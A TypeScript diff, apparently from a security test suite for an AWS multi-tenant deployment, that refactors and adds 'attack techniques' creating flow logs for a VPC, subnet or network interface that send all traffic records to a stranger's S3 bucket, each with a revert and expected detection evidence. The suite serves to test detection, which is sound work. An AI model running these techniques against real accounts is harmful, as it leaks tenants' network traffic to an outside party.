@@ -15,6 +15,8 @@ import {
   DeleteNetworkAclEntryCommand,
   DeleteSecurityGroupCommand,
   DescribeNetworkAclsCommand,
+  type EC2Client,
+  type FlowLogsResourceType,
   ReplaceNetworkAclAssociationCommand,
 } from '@aws-sdk/client-ec2';
 import {
@@ -30,14 +32,27 @@ import { TENANT_ROLE_PATH, TENANT_TAG } from '../../../functions/contract/naming
 import { type Subject, tenantIdOf, vpcOf } from '../../../functions/isolation/subject';
 import { flowLogsRoleOf, roleNameOf } from '../identity-changes';
 import { accountOf, flowLogsOf } from '../key-changes';
-import { firstSubnetOf } from '../network-changes';
+import { anInterface, firstSubnetOf, withMade } from '../network-changes';
 import { rolePolicy } from '../policies';
-import { type AttackTechnique, inTurn, STRANGER } from '../technique';
+import { type AttackTechnique, inTurn, type Revert, STRANGER } from '../technique';
 
 const tags = (subject: Subject) => [{ Key: TENANT_TAG, Value: tenantIdOf(subject) }];
 const postgresqlLogOf = ({ stacks }: Subject) => `/aws/rds/instance/${stacks.database.outputs.InstanceId}/postgresql`;
 
 /** One more flow log, which goes to a stranger's bucket. */
+async function flowLogOf(ec2: EC2Client, ResourceType: FlowLogsResourceType, id: string): Promise<Revert> {
+  const LogDestination = 'arn:aws:s3:::strangers-flow-logs';
+  const { FlowLogIds } = await ec2.send(
+    new CreateFlowLogsCommand({
+      ...{ ResourceIds: [id], ResourceType, TrafficType: 'ALL' },
+      ...{ LogDestinationType: 's3', LogDestination },
+    }),
+  );
+  return () => ec2.send(new DeleteFlowLogsCommand({ FlowLogIds }));
+}
+
+const sent = (id: string) => `of ${id} sends traffic to arn:aws:s3:::strangers-flow-logs`;
+
 const furtherFlowLog = (
   name: string,
   resource: (subject: Subject) => { type: 'VPC' | 'Subnet'; id: string },
@@ -45,20 +60,8 @@ const furtherFlowLog = (
   name,
   check: 'network.flow-logs',
   detonate: async ({ subject, root: { ec2 } }) => {
-    const { type: ResourceType, id } = resource(subject);
-    const { FlowLogIds } = await ec2.send(
-      new CreateFlowLogsCommand({
-        ResourceIds: [id],
-        ResourceType,
-        TrafficType: 'ALL',
-        LogDestinationType: 's3',
-        LogDestination: 'arn:aws:s3:::strangers-flow-logs',
-      }),
-    );
-    return {
-      expectedEvidence: `of ${id} sends traffic to arn:aws:s3:::strangers-flow-logs`,
-      revert: () => ec2.send(new DeleteFlowLogsCommand({ FlowLogIds })),
-    };
+    const { type, id } = resource(subject);
+    return { expectedEvidence: sent(id), revert: await flowLogOf(ec2, type, id) };
   },
 });
 
@@ -196,6 +199,16 @@ export const MEMBER_TECHNIQUES: readonly AttackTechnique[] = [
     type: 'Subnet',
     id: firstSubnetOf(subject) ?? '',
   })),
+  {
+    // RDS has no interface of its own here.
+    name: 'send the flow log of an interface in the VPC to a stranger’s bucket',
+    check: 'network.flow-logs',
+    detonate: async ({ subject, root: { ec2 } }) => {
+      const made = await anInterface(ec2, firstSubnetOf(subject), 'RDSNetworkInterface');
+      const revert = await withMade(made, () => flowLogOf(ec2, 'NetworkInterface', made.id));
+      return { expectedEvidence: sent(made.id), revert };
+    },
+  },
   {
     name: 'take the flow logs’ role its policy',
     check: 'network.flow-logs',
